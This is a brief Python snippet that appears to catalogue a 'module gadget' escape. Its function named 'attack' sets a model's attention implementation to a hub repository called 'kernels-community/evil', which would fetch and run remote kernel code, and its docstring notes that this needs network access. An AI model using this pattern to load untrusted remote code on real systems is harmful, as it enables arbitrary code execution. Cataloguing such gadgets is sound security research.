"""Class: module gadget. Source: own find. Escape: an attention implementation is fetched from a hub.
Teeth: none, it would need a network."""


def attack(model, tokenizer, address):
    model.config._attn_implementation = "kernels-community/evil"
    model.set_attn_implementation("kernels-community/evil")
